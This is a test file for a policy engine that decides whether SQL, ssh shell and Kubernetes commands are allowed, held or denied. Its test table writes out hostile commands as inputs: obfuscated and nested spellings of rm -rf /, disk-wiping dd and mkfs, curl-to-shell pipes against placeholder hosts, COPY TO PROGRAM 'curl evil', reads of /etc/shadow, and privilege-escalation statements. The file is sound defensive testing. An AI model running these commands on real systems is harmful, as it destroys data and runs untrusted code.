import { suite } from '../../../test/harness/suite.js';
import * as assert from 'uvu/assert';
import { parseConfig } from '../../../core/src/config.js';
import { SAMPLES } from '../../../schemas/src/samples.js';
import type { Command, Protocol } from '../../../schemas/src/events.js';
import { CompiledPolicy, DEFAULT_APPROVAL, UNPARSEABLE_RULE, loadParsers } from './engine.js';

/*
 * One realistic policy and a table of commands, each with the verdict and the rule expected to
 * decide it. Many rows are evasion attempts: comments, quoting, case, whitespace, several
 * statements in one string, writes nested in CTEs, EXPLAIN ANALYZE or PREPARE; for shell lines,
 * quoting, escapes, flag spellings, wrappers, nested `sh -c`/`eval`, substitutions and aliases.
 */
const POLICY = `
identity: { dev_issuer: { enabled: true } }
policy:
  default: allow
  rules:
    - id: ssh-prod
      action: deny
      match: { protocols: [ssh], targets: ["prod-*"] }
    - id: shell-download-exec
      action: deny
      message: downloaded code is not run on our hosts
      match: { shell: { download_to_interpreter: true } }
    - id: shell-rm-root
      action: deny
      match: { shell: { commands: [rm], flags: ["-r"], args: ["/", "/etc*", "/var*", "~", "~/*"] } }
    - id: shell-disk
      action: deny
      match: { shell: { commands: [dd, "mkfs*", shred] } }
    - id: shell-force-push
      action: hold
      match: { shell: { commands: [git], args: [push], flags: ["-f"] } }
    - id: k8s-exec
      action: hold
      match: { kubernetes: { verbs: [create, get], resources: ["pods/exec", "pods/attach"] } }
    - id: k8s-secrets
      action: deny
      match: { kubernetes: { resources: [secrets], verbs: [get, list, watch] } }
    - id: k8s-kube-system-writes
      action: deny
      match: { kubernetes: { verbs: [create, update, patch, delete, deletecollection], namespaces: ["kube-*"] } }
    - id: k8s-privilege
      action: deny
      match: { kubernetes: { privilege: ["*"] } }
    - id: k8s-deployment-deletes
      action: deny
      match: { kubernetes: { verbs: [delete], resources: [deployments] } }
    - id: k8s-cbor-widgets
      action: allow
      match: { kubernetes: { resources: [widgets], unreadable_body: true } }
    - id: k8s-gadgets
      action: allow
      match: { kubernetes: { resources: [gadgets] } }
    - id: privileges
      action: deny
      match: { sql: { statements: [GrantStmt, GrantRoleStmt, CreateRoleStmt, AlterRoleStmt, DropRoleStmt, AlterDefaultPrivilegesStmt, ReassignOwnedStmt] } }
    - id: opaque-code
      action: deny
      match: { sql: { statements: [DoStmt, CreateFunctionStmt, CreateTrigStmt, RuleStmt, LoadStmt, CopyStmt] } }
    - id: secrets
      action: deny
      match: { sql: { tables: [secrets, "*.secrets", "vault_*"] } }
    - id: unbounded-write
      action: deny
      match: { sql: { without_where: true } }
    - id: prod-ddl
      action: deny
      match: { targets: ["prod-*"], sql: { statements: [DropStmt, TruncateStmt, AlterTableStmt] } }
    - id: destructive-needs-approval
      action: hold
      match: { sql: { statements: [DropStmt, TruncateStmt, DropdbStmt] } }
      approval: { approvers: { claims: { team: dba } }, required: 2, timeout_s: 120 }
    - id: support-pii
      action: allow
      mask_client: true
      match: { claims: { team: support }, sql: { tables: [users, customers, public.users] } }
    - id: readers-select
      action: allow
      match: { claims: { role: reader }, sql: { statements: [SelectStmt, VariableShowStmt] } }
    - id: readers-nothing-else
      action: deny
      match: { claims: { role: reader } }
`;

const policy = new CompiledPolicy(parseConfig(POLICY, 'table.yaml').policy, 'default');

interface Case {
  text: string;
  /** Kubernetes request attributes (verb, resource, subresource, namespace, name, api_group). */
  attributes?: Record<string, string>;
  decision: 'allow' | 'deny' | 'hold' | 'mask';
  rule: string | null;
  claims?: Record<string, string>;
  target?: string;
  protocol?: Protocol;
}

const reader = { role: 'reader' };
const support = { team: 'support' };

/** An ssh exec command line on a staging host. */
const sh = (text: string, decision: Case['decision'], rule: string | null): Case[] => [{ text, decision, rule, protocol: 'ssh', target: 'staging-db1' }];

const CASES: Case[] = [
  // plain statements under the default
  { text: 'SELECT 1', decision: 'allow', rule: null },
  { text: 'SELECT * FROM orders WHERE id = 1', decision: 'allow', rule: null },
  { text: "INSERT INTO orders VALUES (1, 'x')", decision: 'allow', rule: null },
  { text: 'UPDATE orders SET paid = true WHERE id = 7', decision: 'allow', rule: null },
  { text: 'DELETE FROM orders WHERE id = 7', decision: 'allow', rule: null },
  { text: 'CREATE TABLE t (id int)', decision: 'allow', rule: null },
  { text: 'BEGIN', decision: 'allow', rule: null },
  { text: 'SHOW search_path', decision: 'allow', rule: null },
  { text: '', decision: 'deny', rule: UNPARSEABLE_RULE }, // the proxy never sends an empty query; the engine alone refuses it
  // destructive DDL is held, or denied outright on production
  { text: 'DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: 'TRUNCATE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  // Dropping the database drops the secrets tables too (facts.ts EVERY_TABLE): their deny comes first.
  { text: 'DROP DATABASE appdb', decision: 'deny', rule: 'secrets' },
  { text: 'DROP TABLE orders', decision: 'deny', rule: 'prod-ddl', target: 'prod-main' },
  { text: 'ALTER TABLE orders ADD COLUMN x int', decision: 'deny', rule: 'prod-ddl', target: 'prod-main' },
  { text: 'ALTER TABLE orders ADD COLUMN x int', decision: 'allow', rule: null, target: 'staging' },
  // evasion of the DROP rule: case, comments, whitespace, quoting
  { text: 'drop table orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: 'DrOp TaBlE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: '/* harmless */ DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: '-- just a select\nDROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: 'DROP/**/TABLE/**/orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: '\n\t  DROP\n\tTABLE   "orders"  ;  ', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: 'DROP TABLE "Orders"', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: '/* nested /* comment */ still */ TRUNCATE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  // CASCADE empties every table referencing orders, whichever they are: secrets among them, maybe.
  { text: 'TRUNCATE TABLE ONLY orders RESTART IDENTITY CASCADE', decision: 'deny', rule: 'secrets' },
  { text: 'TRUNCATE TABLE ONLY orders RESTART IDENTITY', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: "SELECT 'DROP TABLE orders'", decision: 'allow', rule: null },
  { text: 'SELECT 1 AS "DROP TABLE x"', decision: 'allow', rule: null },
  { text: 'SELECT $$DROP TABLE orders$$', decision: 'allow', rule: null },
  // several statements in one string: the strictest wins
  { text: 'SELECT 1; DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
  { text: 'SELECT 1; DROP TABLE orders; GRANT ALL ON orders TO public', decision: 'deny', rule: 'privileges' },
  { text: 'BEGIN; DELETE FROM orders; COMMIT', decision: 'deny', rule: 'unbounded-write' },
  { text: 'SELECT 1;;; SELECT 2', decision: 'allow', rule: null },
  // UPDATE / DELETE without WHERE, also when nested
  { text: 'DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
  { text: 'UPDATE orders SET paid = false', decision: 'deny', rule: 'unbounded-write' },
  { text: 'delete   from "orders"', decision: 'deny', rule: 'unbounded-write' },
  { text: 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone', decision: 'deny', rule: 'unbounded-write' },
  { text: 'EXPLAIN ANALYZE DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
  { text: 'PREPARE wipe AS DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
  { text: 'UPDATE orders SET paid = true WHERE true', decision: 'allow', rule: null },
  { text: 'DELETE FROM orders USING customers WHERE orders.cid = customers.id', decision: 'allow', rule: null },
  // role and privilege changes
  { text: 'GRANT SELECT ON orders TO analyst', decision: 'deny', rule: 'privileges' },
  { text: 'REVOKE SELECT ON orders FROM analyst', decision: 'deny', rule: 'privileges' },
  { text: 'GRANT pg_read_all_data TO agent', decision: 'deny', rule: 'privileges' },
  { text: "CREATE ROLE admin2 SUPERUSER LOGIN PASSWORD 'x'", decision: 'deny', rule: 'privileges' },
  { text: 'ALTER ROLE agent SUPERUSER', decision: 'deny', rule: 'privileges' },
  { text: 'alter user agent with createrole', decision: 'deny', rule: 'privileges' },
  { text: 'DROP ROLE analyst', decision: 'deny', rule: 'privileges' },
  { text: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public', decision: 'deny', rule: 'privileges' },
  { text: 'REASSIGN OWNED BY agent TO postgres', decision: 'deny', rule: 'privileges' },
  // code the policy cannot see into
  { text: "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", decision: 'deny', rule: 'opaque-code' },
  { text: "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'", decision: 'deny', rule: 'opaque-code' },
  { text: "COPY orders TO PROGRAM 'curl evil'", decision: 'deny', rule: 'opaque-code' },
  { text: "LOAD 'evil.so'", decision: 'deny', rule: 'opaque-code' },
  // tables touched
  { text: 'SELECT * FROM secrets', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM vault.secrets', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM "secrets"', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM SECRETS', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM "SECRETS"', decision: 'allow', rule: null },
  { text: 'SELECT * FROM vault_keys', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT o.id FROM orders o JOIN secrets s ON s.id = o.id', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)', decision: 'deny', rule: 'secrets' },
  { text: 'WITH s AS (SELECT * FROM secrets) SELECT * FROM s', decision: 'deny', rule: 'secrets' },
  { text: 'INSERT INTO audit_copy SELECT * FROM public.secrets', decision: 'deny', rule: 'secrets' },
  { text: 'SELECT * FROM secrets_archive', decision: 'allow', rule: null },
  // masking for support, on their tables only (every table must be listed)
  { text: 'SELECT * FROM users', decision: 'mask', rule: 'support-pii', claims: support },
  { text: 'SELECT * FROM public.users', decision: 'mask', rule: 'support-pii', claims: support },
  { text: 'SELECT * FROM users JOIN customers USING (id)', decision: 'mask', rule: 'support-pii', claims: support },
  { text: 'SELECT * FROM users JOIN orders USING (id)', decision: 'allow', rule: null, claims: support },
  { text: 'SELECT * FROM users', decision: 'allow', rule: null },
  // readers: only SELECT / SHOW, and a write hidden inside a SELECT is not a SELECT
  { text: 'SELECT * FROM orders', decision: 'allow', rule: 'readers-select', claims: reader },
  { text: 'show work_mem', decision: 'allow', rule: 'readers-select', claims: reader },
  { text: "INSERT INTO orders VALUES (1, 'x')", decision: 'deny', rule: 'readers-nothing-else', claims: reader },
  { text: 'WITH x AS (UPDATE orders SET paid = true WHERE id = 1 RETURNING id) SELECT * FROM x', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
  { text: 'SELECT 1; INSERT INTO orders VALUES (2)', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
  { text: 'EXPLAIN SELECT 1', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
  { text: 'SET ROLE postgres', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
  // text that does not parse is never allowed
  { text: 'DROP TABLE', decision: 'deny', rule: UNPARSEABLE_RULE },
  { text: 'SELEC * FROM orders', decision: 'deny', rule: UNPARSEABLE_RULE },
  { text: "SELECT 'unterminated", decision: 'deny', rule: UNPARSEABLE_RULE },
  { text: 'SELECT 1 /* unterminated comment', decision: 'deny', rule: UNPARSEABLE_RULE },
  // ssh commands: matched by protocol, target and claims (no SQL conditions apply)
  { text: 'rm -rf /var/lib/postgresql', decision: 'deny', rule: 'ssh-prod', protocol: 'ssh', target: 'prod-db1' },
  { text: 'uptime', decision: 'allow', rule: null, protocol: 'ssh', target: 'staging-db1' },
  { text: 'cat /etc/shadow', decision: 'deny', rule: 'readers-nothing-else', protocol: 'ssh', target: 'staging-db1', claims: reader },
  // shell lines parsed with bash's grammar: every spelling of rm -rf / is the same command
  ...sh('rm -rf /', 'deny', 'shell-rm-root'),
  ...sh('busybox rm -rf /', 'deny', 'shell-rm-root'),
  ...sh('toybox rm -r -f /etc', 'deny', 'shell-rm-root'),
  ...sh('find / -xdev -delete', 'deny', 'shell-rm-root'),
  ...sh('find /tmp/cache -delete', 'allow', null),
  ...sh('find /etc -name x -exec rm -r {} +', 'deny', 'shell-rm-root'),
  ...sh('find /tmp -name x -exec rm -r {} +', 'allow', null),
  ...sh('find / -ok rm -r / \\;', 'deny', 'shell-rm-root'),
  ...sh('rm -r -f /', 'deny', 'shell-rm-root'),
  ...sh('rm --recursive --force /', 'deny', 'shell-rm-root'),
  ...sh('rm --rec --forc /etc', 'deny', 'shell-rm-root'),
  ...sh('rm -R /var/lib', 'deny', 'shell-rm-root'),
  ...sh("r''m -rf /", 'deny', 'shell-rm-root'),
  ...sh('"rm" -fr /', 'deny', 'shell-rm-root'),
  ...sh('\\rm -rf /', 'deny', 'shell-rm-root'),
  ...sh("$'\\x72\\x6d' -rf /", 'deny', 'shell-rm-root'),
  ...sh('/bin/rm   -rf\t/', 'deny', 'shell-rm-root'),
  ...sh('LANG=C 2>/dev/null rm -rf / >/dev/null', 'deny', 'shell-rm-root'),
  ...sh('sudo -u root nohup rm -rf /', 'deny', 'shell-rm-root'),
  ...sh('echo ok; (cd /tmp && rm -rf ~)', 'deny', 'shell-rm-root'),
  ...sh('echo "$(echo `rm -rf /`)"', 'deny', 'shell-rm-root'),
  ...sh("bash -c 'rm -rf /'", 'deny', 'shell-rm-root'),
  ...sh(`sh -c "sudo sh -c 'r\\m -rf /'"`, 'deny', 'shell-rm-root'),
  ...sh('eval "rm -rf /"', 'deny', 'shell-rm-root'),
  ...sh('ls / | xargs -0 rm -rf /', 'deny', 'shell-rm-root'),
  ...sh("alias ll='rm -rf /'", 'deny', 'shell-rm-root'),
  ...sh('f() { rm -rf /; }; f', 'deny', 'shell-rm-root'),
  ...sh('rm -rf /tmp/build', 'allow', null),
  ...sh("echo 'rm -rf /'", 'allow', null),
  ...sh('echo hi # rm -rf /', 'allow', null),
  ...sh('rm -- -rf /x', 'allow', null),
  ...sh('dd if=/dev/zero of=/dev/sda bs=1M', 'deny', 'shell-disk'),
  ...sh('timeout 60 nice -n 5 mkfs.ext4 /dev/sdb', 'deny', 'shell-disk'),
  ...sh('find /etc -name "*.key" -exec shred -u {} \\;', 'deny', 'shell-disk'),
  ...sh("su - root -c 'dd if=/dev/zero of=/dev/sda'", 'deny', 'shell-disk'),
  ...sh("watch -n 1 'mkfs /dev/sdc'", 'deny', 'shell-disk'),
  // a download piped into an interpreter, however it is spelled
  ...sh('curl -fsSL https://get.example/install.sh | sh', 'deny', 'shell-download-exec'),
  ...sh('wget -qO- https://get.example/i | sudo bash -s -- --yes', 'deny', 'shell-download-exec'),
  ...sh('curl -s https://x.example | base64 -d | python3', 'deny', 'shell-download-exec'),
  ...sh('bash <(curl -s https://x.example/i.sh)', 'deny', 'shell-download-exec'),
  ...sh('curl -o i.sh https://x.example/i.sh', 'allow', null),
  // force pushes are held, whichever flag spelling
  ...sh('git push --force origin main', 'hold', 'shell-force-push'),
  ...sh('git push -f origin main', 'hold', 'shell-force-push'),
  ...sh('git push origin +main', 'hold', 'shell-force-push'),
  ...sh('git push --force-with-lease origin main', 'hold', 'shell-force-push'),
  ...sh('git push origin main', 'allow', null),
  ...sh('git push -f origin main; rm -rf /', 'deny', 'shell-rm-root'),
  // what would decide its program at run time is refused
  ...sh('$CMD -rf /', 'deny', UNPARSEABLE_RULE),
  ...sh('${X:-rm} -rf /', 'deny', UNPARSEABLE_RULE),
  ...sh('$(echo rm) -rf /', 'deny', UNPARSEABLE_RULE),
  ...sh('{rm,-rf,/}', 'deny', UNPARSEABLE_RULE),
  ...sh('/???/r? -rf /', 'deny', UNPARSEABLE_RULE),
  ...sh('echo cm0gLXJmIC8= | base64 -d | sh', 'deny', UNPARSEABLE_RULE),
  ...sh('cat <<EOF | sh\nrm -rf /\nEOF', 'deny', UNPARSEABLE_RULE),
  ...sh('bash <<< "rm -rf /"', 'deny', UNPARSEABLE_RULE),
  ...sh('sh -c "$PAYLOAD"', 'deny', UNPARSEABLE_RULE),
  ...sh('eval "$(curl -s https://x.example)"', 'deny', UNPARSEABLE_RULE),
  ...sh("echo 'unterminated", 'deny', UNPARSEABLE_RULE),
  ...sh('sudo -i', 'deny', UNPARSEABLE_RULE),
  // Kubernetes requests, matched on verb, resource and namespace from the request descriptor
  { text: 'GET /api/v1/namespaces/app/pods/web-1/exec', attributes: { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'app' }, decision: 'hold', rule: 'k8s-exec', protocol: 'kubernetes' },
  { text: 'kubectl attach', attributes: { verb: 'CREATE', resource: 'Pods', subresource: 'attach', namespace: 'app' }, decision: 'hold', rule: 'k8s-exec', protocol: 'kubernetes' },
  { text: 'kubectl get secret db -o yaml', attributes: { verb: 'get', resource: 'secrets', namespace: 'app', name: 'db' }, decision: 'deny', rule: 'k8s-secrets', protocol: 'kubernetes' },
  { text: 'kubectl get secrets -A', attributes: { verb: 'list', resource: 'secrets', namespace: '' }, decision: 'deny', rule: 'k8s-secrets', protocol: 'kubernetes' },
  // A rule refusing reads of an object refuses the writes whose answer carries it (update, patch, delete).
  { text: 'kubectl delete secret db', attributes: { verb: 'delete', resource: 'secrets', namespace: 'app' }, decision: 'deny', rule: 'k8s-secrets', protocol: 'kubernetes' },
  { text: 'kubectl delete pod coredns-1 -n kube-system', attributes: { verb: 'delete', resource: 'pods', namespace: 'kube-system' }, decision: 'deny', rule: 'k8s-kube-system-writes', protocol: 'kubernetes' },
  { text: 'kubectl get pods -n kube-system', attributes: { verb: 'get', resource: 'pods', namespace: 'kube-system' }, decision: 'allow', rule: null, protocol: 'kubernetes' },
  { text: 'kubectl logs web-1', attributes: { verb: 'get', resource: 'pods', subresource: 'log', namespace: 'app' }, decision: 'allow', rule: null, protocol: 'kubernetes' },
  { text: 'a request with no descriptor', decision: 'allow', rule: null, protocol: 'kubernetes' },
  { text: 'kubectl create clusterrolebinding x --clusterrole=cluster-admin', attributes: { verb: 'create', resource: 'clusterrolebindings', api_group: 'rbac.authorization.k8s.io', privilege: 'bind' }, decision: 'deny', rule: 'k8s-privilege', protocol: 'kubernetes' },
  { text: 'kubectl create token builder', attributes: { verb: 'create', resource: 'serviceaccounts', subresource: 'token', namespace: 'app', name: 'builder', privilege: 'token' }, decision: 'deny', rule: 'k8s-privilege', protocol: 'kubernetes' },
  { text: 'kubectl patch cm c --type json (finalizers)', attributes: { verb: 'patch', resource: 'configmaps', namespace: 'app', name: 'c', privilege: 'finalizers' }, decision: 'deny', rule: 'k8s-privilege', protocol: 'kubernetes' },
  { text: 'kubectl patch cm c (labels)', attributes: { verb: 'patch', resource: 'configmaps', namespace: 'app', name: 'c' }, decision: 'allow', rule: null, protocol: 'kubernetes' },
  { text: 'kubectl delete --raw /apis/apps/v1/namespaces/app/deployments', attributes: { verb: 'deletecollection', resource: 'deployments', api_group: 'apps', namespace: 'app' }, decision: 'deny', rule: 'k8s-deployment-deletes', protocol: 'kubernetes' },
  { text: 'kubectl delete deployment web', attributes: { verb: 'delete', resource: 'deployments', api_group: 'apps', namespace: 'app', name: 'web' }, decision: 'deny', rule: 'k8s-deployment-deletes', protocol: 'kubernetes' },
  { text: 'kubectl get deployments', attributes: { verb: 'list', resource: 'deployments', api_group: 'apps', namespace: 'app' }, decision: 'allow', rule: null, protocol: 'kubernetes' },
  // A body the proxy cannot read: only an allow rule naming it lets it through, never the default.
  { text: 'POST /api/v1/namespaces/app/configmaps (CBOR)', attributes: { verb: 'create', resource: 'configmaps', namespace: 'app', body: 'unreadable' }, decision: 'deny', rule: 'agate.unverifiable', protocol: 'kubernetes' },
  { text: 'PUT /api/v1/namespaces/app/secrets/db (JSON with a repeated key)', attributes: { verb: 'update', resource: 'secrets', namespace: 'app', name: 'db', body: 'unreadable' }, decision: 'deny', rule: 'k8s-secrets', protocol: 'kubernetes' },
  { text: 'PUT /api/v1/namespaces/app/configmaps/db (JSON with a repeated key)', attributes: { verb: 'update', resource: 'configmaps', namespace: 'app', name: 'db', body: 'unreadable' }, decision: 'deny', rule: 'agate.unverifiable', protocol: 'kubernetes' },
  { text: 'POST /api/v1/namespaces/app/secrets (alias YAML, token type)', attributes: { verb: 'create', resource: 'secrets', namespace: 'app', body: 'unreadable', privilege: 'token' }, decision: 'deny', rule: 'k8s-privilege', protocol: 'kubernetes' },
  { text: 'POST /apis/example.com/v1/namespaces/app/widgets (CBOR)', attributes: { verb: 'create', resource: 'widgets', api_group: 'example.com', namespace: 'app', body: 'unreadable' }, decision: 'allow', rule: 'k8s-cbor-widgets', protocol: 'kubernetes' },
  { text: 'POST /apis/example.com/v1/namespaces/app/widgets (JSON)', attributes: { verb: 'create', resource: 'widgets', api_group: 'example.com', namespace: 'app' }, decision: 'allow', rule: null, protocol: 'kubernetes' },
  { text: 'POST /apis/example.com/v1/namespaces/app/gadgets (CBOR)', attributes: { verb: 'create', resource: 'gadgets', api_group: 'example.com', namespace: 'app', body: 'unreadable' }, decision: 'deny', rule: 'agate.unverifiable', protocol: 'kubernetes' },
  { text: 'POST /apis/example.com/v1/namespaces/app/gadgets (JSON)', attributes: { verb: 'create', resource: 'gadgets', api_group: 'example.com', namespace: 'app' }, decision: 'allow', rule: 'k8s-gadgets', protocol: 'kubernetes' },
  { text: 'DELETE FROM pods', decision: 'deny', rule: 'unbounded-write' },
];

const table = suite('policy decision table');
table.before(() => loadParsers());

table('has at least 60 cases', () => {
  assert.ok(CASES.length >= 60, `${CASES.length} cases`);
});

for (const [i, c] of CASES.entries()) {
  const label = `${String(i + 1).padStart(2, '0')} ${c.protocol ?? 'postgres'}${c.target ? `@${c.target}` : ''}${c.claims ? ` ${JSON.stringify(c.claims)}` : ''}: ${JSON.stringify(c.text).slice(0, 70)}`;
  table(label, () => {
    const command: Command = {
      ...SAMPLES.Command, text: c.text, protocol: c.protocol ?? 'postgres', target: c.target ?? 'app', attributes: c.attributes ?? {},
      identity: { ...SAMPLES.Command.identity, claims: { ...SAMPLES.Command.identity.claims, ...c.claims } },
    };
    const d = policy.evaluate(command);
    assert.equal([d.decision, d.rule_id], [c.decision, c.rule], d.reason);
    if (c.rule === 'destructive-needs-approval') assert.equal(d.approval, { approvers: { claims: { team: 'dba' } }, required: 2, timeout_s: 120, allow_self_approval: false });
    if (c.decision === 'mask') assert.is(d.mask_set, 'default');
    if (c.rule === 'k8s-exec') assert.equal(d.approval, DEFAULT_APPROVAL);
  });
}

table.run();
